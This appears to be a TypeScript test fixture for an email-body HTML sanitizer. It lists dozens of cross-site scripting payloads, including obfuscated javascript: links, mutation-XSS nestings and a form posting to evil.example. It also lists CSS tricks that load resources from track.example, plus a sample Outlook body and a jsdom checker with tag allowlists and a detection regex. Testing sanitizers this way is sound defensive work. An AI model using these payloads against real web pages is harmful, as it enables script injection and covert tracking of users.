/**
 * Hostile message bodies, and a check of what a browser would make of a sanitized one. Shared by the sanitizer's
 * tests and the `sanitize` benchmark, which runs them through every candidate sanitizer.
 */
import { JSDOM } from 'jsdom';

/** Bodies that try to run script, reach outside the frame or escape the sanitizer's reading of HTML. */
export const SCRIPT_ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></p></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>x</details>',
  '<div/onclick=alert(1)>x</div>',
  '<p style="color:red" onmouseover="alert(1)">x</p>',
  '<img """><script>alert(1)</script>">',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)" target="_self">x</a>',
  '<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">go</button></form>',
  '<base href="javascript:/"><a href="x">x</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="import" href="https://evil.example/x.html">',
  '<p id="location" name="cookie" class="x" data-x="1">clobber</p>',
  '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<svg/><img src=x onerror=alert(1)>',
  '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
  '<select><template><style><img src=x onerror=alert(1)></style></template></select>',
  '<a href="https://ok.example/">x<a href="javascript:alert(1)">y</a></a>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<p title="\u0000"><scr\u0000ipt>alert(1)</scr\u0000ipt></p>',
  '<plaintext><script>alert(1)</script>',
];

/** Styles that try to make the portal fetch something (finding 9 and its relatives). */
export const CSS_ATTACKS = [
  'background-image:u\\72l(https://track.example/a.gif)',
  'background-image:\\75\\72\\6c(https://track.example/a.gif)',
  'background-image:url(https://track.example/a.gif)',
  'background:URL("https://track.example/a.gif")',
  "background: url('//track.example/a.gif')",
  'background-image:image-set("https://track.example/a.gif" 1x)',
  'background:-webkit-image-set(url(https://track.example/a.gif) 1x)',
  'background-image:cross-fade(url(https://track.example/a.gif), red)',
  'background:rgb(0,0,0) url(https://track.example/a.gif)',
  'background:u/**/rl(https://track.example/a.gif)',
  'background:url&#40;https://track.example/a.gif&#41;',
  'background:&#117;rl(https://track.example/a.gif)',
  'background:ｕｒｌ(https://track.example/a.gif)',
  'list-style-image:url(https://track.example/a.gif)',
  'list-style:url(https://track.example/a.gif)',
  'content:url(https://track.example/a.gif)',
  'cursor:url(https://track.example/a.cur),auto',
  'border-image:url(https://track.example/a.gif) 30',
  'border-image-source:url(https://track.example/a.gif)',
  'mask-image:url(https://track.example/a.svg)',
  'filter:url(https://track.example/f.svg#x)',
  'behavior:url(https://track.example/x.htc)',
  '-moz-binding:url(https://track.example/x.xml#x)',
  'width:expression(alert(1))',
  'background:var(--x)',
  'background:element(#x)',
  'background:paint(x)',
  '@import "https://track.example/x.css"',
  'color:red;background-image:url(https://track.example/a.gif)',
  'font-family:"a";src:url(https://track.example/f.woff)',
  'background:"https://track.example/a.gif"',
  'background:url(\n https://track.example/a.gif \n)',
  'background:\\000075rl(https://track.example/a.gif)',
].flatMap((style) => [
  `<p style="${style.replace(/"/g, '&quot;')}">x</p>`,
  `<div style='${style.replace(/'/g, '&#39;')}'>x</div>`,
  `<style>p{${style}}</style><p>x</p>`,
  `<svg><style>p{${style}}</style></svg><p>x</p>`,
]);

/** Ordinary bodies whose look must survive: what Outlook and the portal editor send. */
export const OUTLOOK_BODY = `<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style>p.MsoNormal{margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif;}</style></head>
<body lang="EN-GB" style="word-wrap:break-word">
<div class="WordSection1"><p class="MsoNormal">Dear Ms&nbsp;Rivera,<o:p></o:p></p>
<p class="MsoNormal" style="margin-bottom:8.0pt;line-height:107%"><span style="font-size:11.0pt;font-family:&quot;Calibri&quot;,sans-serif;color:#1F3864;mso-ligatures:none">Please find your results below. Your next appointment is on <b>12 March</b> at <i>9:30</i>.</span></p>
<table class="MsoTableGrid" border="1" cellspacing="0" cellpadding="0" style="border-collapse:collapse;border:none;width:100%">
<tr><td width="200" valign="top" style="width:150.0pt;border:solid windowtext 1.0pt;padding:0cm 5.4pt 0cm 5.4pt;background:#D9E2F3"><p class="MsoNormal"><b>Test</b></p></td>
<td width="200" valign="top" style="border:solid windowtext 1.0pt;border-left:none;padding:0cm 5.4pt"><p class="MsoNormal">Result</p></td></tr>
<tr><td style="border:solid windowtext 1.0pt;border-top:none;padding:0cm 5.4pt"><p class="MsoNormal">HbA1c</p></td>
<td style="border-top:none;border-left:none;border-bottom:solid windowtext 1.0pt;border-right:solid windowtext 1.0pt;padding:0cm 5.4pt"><p class="MsoNormal" style="color:rgb(0, 97, 0)">5.4 %</p></td></tr>
</table>
<p class="MsoNormal">See <a href="https://clinic.example/results?id=42&amp;lang=en">your results</a> or write to <a href="mailto:care@clinic.example">care@clinic.example</a>.</p>
<ul><li>Fast for 8 hours</li><li>Bring your card</li></ul>
<p class="MsoNormal"><span style="font-family:&quot;Segoe UI&quot;,sans-serif;color:gray">Kind regards,<br>Dr. Ana Park</span></p>
<blockquote style="border-left:solid #0078D4 1.5pt;padding-left:4pt;margin-left:0"><p>Earlier: thank you!</p></blockquote>
</div></body></html>`;

const SAFE_TAGS = new Set([
  'a', 'b', 'blockquote', 'br', 'caption', 'center', 'code', 'col', 'colgroup', 'dd', 'del', 'div', 'dl', 'dt', 'em',
  'font', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'ins', 'li', 'ol', 'p', 'pre', 's', 'small', 'span', 'strike',
  'strong', 'sub', 'sup', 'table', 'tbody', 'td', 'tfoot', 'th', 'thead', 'tr', 'u', 'ul',
]);
const SAFE_ATTRIBUTES = new Set([
  'href', 'target', 'rel', 'title', 'lang', 'dir', 'align', 'valign', 'colspan', 'rowspan', 'color', 'bgcolor', 'size',
  'face', 'width', 'height', 'border', 'cellpadding', 'cellspacing', 'style',
]);
/** Anything in a style that can name a resource or hide one. */
const LOADING_STYLE = /url\s*\(|image-set|image\s*\(|@import|expression|\\|var\s*\(|element\s*\(|cross-fade|paint\s*\(|src\s*:|binding|behavior/i;

/**
 * What is wrong with a sanitized body once a browser-grade parser (jsdom's parse5) reads it: elements, attributes,
 * link schemes or styles that could run script or load something. Empty when it is safe.
 */
export function problemsIn(sanitized: string): string[] {
  const { document } = new JSDOM(`<!doctype html><html><head></head><body>${sanitized}</body></html>`).window;
  const problems: string[] = [];
  if (document.head.children.length > 0) problems.push(`head gained ${document.head.innerHTML}`);
  for (const element of Array.from(document.body.querySelectorAll('*'))) {
    const tag = element.localName;
    if (!SAFE_TAGS.has(tag) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') problems.push(`element <${tag}>`);
    for (const attribute of Array.from(element.attributes)) {
      if (!SAFE_ATTRIBUTES.has(attribute.name)) problems.push(`attribute ${attribute.name} on <${tag}>`);
    }
    const style = element.getAttribute('style');
    if (style && LOADING_STYLE.test(style)) problems.push(`style "${style}"`);
    if (tag === 'a' && element.hasAttribute('href')) {
      const protocol = new URL((element as HTMLAnchorElement).href, 'https://portal.example/').protocol;
      if (!['http:', 'https:', 'mailto:', 'tel:'].includes(protocol)) problems.push(`link to ${protocol}`);
      if (element.getAttribute('target') !== '_blank' || !/noopener/.test(element.getAttribute('rel') ?? '')) problems.push('link without target/rel');
    }
  }
  return problems;
}
